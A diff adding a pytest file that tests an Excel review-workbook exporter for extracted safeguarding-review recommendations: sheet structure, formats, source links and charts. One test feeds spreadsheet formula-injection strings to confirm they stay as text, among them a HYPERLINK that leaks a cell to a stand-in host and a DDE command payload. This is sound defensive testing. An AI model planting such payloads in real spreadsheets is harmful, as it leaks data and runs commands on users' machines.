@@ -1,0 +1,247 @@
+"""The review workbook: structure, formats, links, and that report text never becomes a formula."""
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.utils import range_boundaries
+
+from conftest import EXAMPLES
+from extractor import __version__
+from extractor.export.cells import MAX_CELL_CHARS, TRUNCATION_MARKER
+from extractor.export.summary import summarise
+from extractor.export.xlsx import SHEETS, write_workbook
+from extractor.report import ReadFailure, Report, RunResult
+
+DATA_SHEETS = ("Reports", "Recommendations", "Bodies", "Errors")
+
+
+def gold_run() -> RunResult:
+    """The two worked examples as a run: one PDF, one DOCX, and one unreadable file."""
+    reports = []
+    for name, fmt, pages in (("eastmere-2014-15", "pdf", 14), ("ardley-vale-2016-17", "docx", 30)):
+        d = json.loads((EXAMPLES / f"{name}.gold.json").read_text(encoding="utf-8"))
+        d.update(source=str(EXAMPLES / f"{name}.{fmt}"), sha256="0" * 63 + str(pages % 10),
+                 format=fmt, pages=pages)
+        reports.append(Report.from_dict(d))
+    reports[0].recommendations[0].page = 9  # a PDF page, to check the link opens at it
+    return RunResult(reports=reports, errors=[ReadFailure(
+        "corpus/bad/locked.pdf", "encrypted PDF: a password is required")])
+
+
+def header_index(ws, header: str) -> int:
+    return [c.value for c in ws[1]].index(header) + 1
+
+
+def column_values(ws, header: str) -> list:
+    col = header_index(ws, header)
+    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
+
+
+@pytest.fixture(scope="module")
+def workbook(tmp_path_factory):
+    result = gold_run()
+    path = tmp_path_factory.mktemp("xlsx") / "review.xlsx"
+    write_workbook(result, path)
+    return result, openpyxl.load_workbook(path)
+
+
+def test_sheets_in_contract_order(workbook):
+    _, wb = workbook
+    assert wb.sheetnames == list(SHEETS) == [
+        "Summary", "Reports", "Recommendations", "Bodies", "Errors", "About"]
+
+
+def test_every_data_sheet_is_a_table_with_a_frozen_header(workbook):
+    _, wb = workbook
+    for name in DATA_SHEETS:
+        ws = wb[name]
+        assert ws.freeze_panes == "A2", name
+        (table,) = ws.tables.values()
+        assert table.ref == f"A1:{ws.cell(row=1, column=ws.max_column).column_letter}{ws.max_row}"
+        assert table.autoFilter is not None
+        assert table.tableStyleInfo.showRowStripes
+    assert wb["Summary"].tables and wb["Summary"].freeze_panes
+    assert wb["About"].tables and wb["About"].freeze_panes
+
+
+def test_one_row_per_report_entry_body_and_error(workbook):
+    result, wb = workbook
+    entries = [e for r in result.reports for e in r.recommendations]
+    assert wb["Reports"].max_row - 1 == len(result.reports) == 2
+    assert wb["Recommendations"].max_row - 1 == len(entries) == 14
+    assert wb["Bodies"].max_row - 1 == sum(len(e.bodies) for e in entries)
+    assert wb["Errors"].max_row - 1 == 1
+    assert column_values(wb["Recommendations"], "Id") == [e.id for e in entries]
+    assert column_values(wb["Errors"], "Error") == ["encrypted PDF: a password is required"]
+
+
+def test_recommendation_rows_carry_every_field(workbook):
+    result, wb = workbook
+    ws = wb["Recommendations"]
+    entry = result.reports[1].recommendations[0]  # five bodies, three sectors
+    row = {ws.cell(row=1, column=c).value: ws.cell(row=9, column=c).value
+           for c in range(1, ws.max_column + 1)}
+    assert row["Report"] == "ardley-vale-2016-17.docx"
+    assert row["LSCB"] == "Ardley Vale Safeguarding Children Board"
+    assert row["Period"] == "2016-17"
+    assert (row["SCR"], row["No."], row["Status"]) == (entry.scr, entry.number, entry.status)
+    assert row["Recommendation"] == entry.text and row["Action"] == entry.action
+    assert row["Bodies"] == "; ".join(b.name for b in entry.bodies)
+    assert row["Sectors"] == "lscb; childrens_social_care; health"
+    assert row["Confidence"] == entry.confidence and row["Evidence"] == entry.evidence
+    assert row["Reviewer verdict"] is None and row["Reviewer note"] is None
+
+
+def test_reviewer_verdict_is_a_drop_down(workbook):
+    _, wb = workbook
+    ws = wb["Recommendations"]
+    letter = ws.cell(row=1, column=header_index(ws, "Reviewer verdict")).column_letter
+    (dv,) = ws.data_validations.dataValidation
+    assert dv.type == "list"
+    assert dv.formula1 == '"correct,wrong,edited"'
+    assert str(dv.sqref) == f"{letter}2:{letter}{ws.max_row}"
+
+
+def test_status_and_verdict_are_colour_coded(workbook):
+    _, wb = workbook
+    for sheet, header, codes in (("Recommendations", "Status", {"completed", "not_started"}),
+                                 ("Reports", "Verdict", {"meets", "does_not_meet"})):
+        ws = wb[sheet]
+        letter = ws.cell(row=1, column=header_index(ws, header)).column_letter
+        formulas = {f.strip('"') for cf in ws.conditional_formatting
+                    if str(cf.sqref).startswith(letter + "2") for rule in cf.rules
+                    for f in rule.formula}
+        assert codes <= formulas, sheet
+
+
+def test_shares_are_percentages_and_confidence_is_flagged(workbook):
+    result, wb = workbook
+    ws = wb["Reports"]
+    for header, field in (("Actions reported", "actions_reported"),
+                          ("Bodies named", "bodies_named")):
+        cells = [ws.cell(row=r, column=header_index(ws, header)) for r in (2, 3)]
+        assert [c.number_format for c in cells] == ["0%", "0%"]
+        assert [c.value for c in cells] == [getattr(r.rec9, field) for r in result.reports]
+    assert column_values(wb["Recommendations"], "Check") == [None] * 14  # gold: confidence 1.0
+
+
+def test_source_links_open_the_file_at_the_page(workbook):
+    result, wb = workbook
+    ws = wb["Recommendations"]
+    col = header_index(ws, "Source")
+    pdf_link = ws.cell(row=2, column=col).hyperlink.target
+    assert pdf_link == Path(result.reports[0].source).resolve().as_uri() + "#page=9"
+    assert ws.cell(row=3, column=col).hyperlink.target.endswith("eastmere-2014-15.pdf")
+    docx_link = ws.cell(row=9, column=col).hyperlink.target
+    assert docx_link.startswith("file:///") and docx_link.endswith("ardley-vale-2016-17.docx")
+
+
+def test_summary_sheet_shows_the_library_figures_and_charts(workbook):
+    result, wb = workbook
+    ws = wb["Summary"]
+    assert len(ws._charts) >= 2
+    summary = summarise(result)
+    for t in summary.tables:
+        table = ws.tables[f"Summary_{t.key}"]
+        min_col, min_row, max_col, max_row = range_boundaries(table.ref)
+        assert [ws.cell(row=min_row, column=c).value for c in range(min_col, max_col + 1)] \
+            == list(t.headers)
+        shown = [tuple(ws.cell(row=r, column=c).value for c in range(min_col, max_col + 1))
+                 for r in range(min_row + 1, max_row + 1)]
+        assert shown == t.rows, t.key
+        for c in t.percent_columns:
+            assert ws.cell(row=min_row + 1, column=min_col + c).number_format == "0%"
+    verdicts = dict((row[0], row[1]) for row in summary.table("verdicts").rows)
+    assert verdicts["Meets"] == 2  # both gold reports meet recommendation 9
+
+
+def test_about_names_version_spec_and_inputs(workbook):
+    result, wb = workbook
+    values = {c.value for row in wb["About"].iter_rows() for c in row}
+    assert f"scr-extract {__version__}" in values and "scr-extract/1" in values
+    assert result.reports[0].sha256 in values and "corpus/bad/locked.pdf" in values
+
+
+def test_no_cell_anywhere_holds_a_formula(workbook):
+    _, wb = workbook
+    for ws in wb:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate)
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+SUM(1,2)",
+    "-2+3 partners agreed",
+    "@cmd|' /C calc'!A0",
+    "=1+1",
+]
+
+
+def test_report_text_never_becomes_a_formula(tmp_path):
+    result = gold_run()
+    report = result.reports[0]
+    report.lscb = "=Eastmere LSCB"
+    entries = report.recommendations
+    for entry, text in zip(entries, HOSTILE):
+        entry.text = text
+    entries[0].action = "Bell\x07 and form feed\x0c removed; tab\tand\nnewline kept"
+    entries[1].evidence = "x" * 40_000
+    entries[2].bodies[0].name = "@Police"
+    write_workbook(result, tmp_path / "hostile.xlsx")
+
+    wb = openpyxl.load_workbook(tmp_path / "hostile.xlsx")
+    for ws in wb:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    ws = wb["Recommendations"]
+    assert column_values(ws, "Recommendation")[:5] == HOSTILE
+    assert column_values(ws, "LSCB")[0] == "=Eastmere LSCB"
+    assert column_values(ws, "Action")[0] == "Bell and form feed removed; tab\tand\nnewline kept"
+    evidence = column_values(ws, "Evidence")[1]
+    assert len(evidence) == MAX_CELL_CHARS and evidence.endswith(TRUNCATION_MARKER)
+    assert column_values(wb["Bodies"], "Body")[2] == "@Police"
+    assert wb["Recommendations"].cell(row=2, column=header_index(ws, "Recommendation")).quotePrefix
+    # Wrote no link but ours: only the Source column carries hyperlinks.
+    linked = {ws.cell(row=1, column=c.column).value for row in ws.iter_rows(min_row=2)
+              for c in row if c.hyperlink}
+    assert linked == {"Source"}
+
+
+@pytest.mark.parametrize("result", [
+    RunResult(),
+    RunResult(errors=[ReadFailure("a.pdf", "empty file (0 bytes)")]),
+], ids=["nothing", "only-errors"])
+def test_empty_runs_still_make_a_valid_workbook(tmp_path, result):
+    write_workbook(result, tmp_path / "empty.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "empty.xlsx")
+    assert wb.sheetnames == list(SHEETS)
+    for name in ("Reports", "Recommendations", "Bodies"):
+        (table,) = wb[name].tables.values()
+        assert table.ref.endswith("2")  # the header and one empty row: Excel needs a data row
+        assert all(c.value is None for c in wb[name][2])
+    assert len(wb["Summary"]._charts) >= 2
+
+
+def test_report_without_entries(tmp_path):
+    result = gold_run()
+    report = result.reports[1]
+    report.recommendations = []
+    write_workbook(result, tmp_path / "few.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "few.xlsx")
+    assert wb["Recommendations"].max_row - 1 == 7
+    assert column_values(wb["Reports"], "Report")[1] == "ardley-vale-2016-17.docx"
+    assert column_values(wb["Reports"], "Entries") == [7, 0]
+
+
+def test_write_is_atomic_and_replaces(tmp_path):
+    target = tmp_path / "out" / "review.xlsx"
+    write_workbook(RunResult(), target)
+    write_workbook(gold_run(), target)
+    assert [p.name for p in target.parent.iterdir()] == ["review.xlsx"]
+    assert openpyxl.load_workbook(target)["Recommendations"].max_row == 15
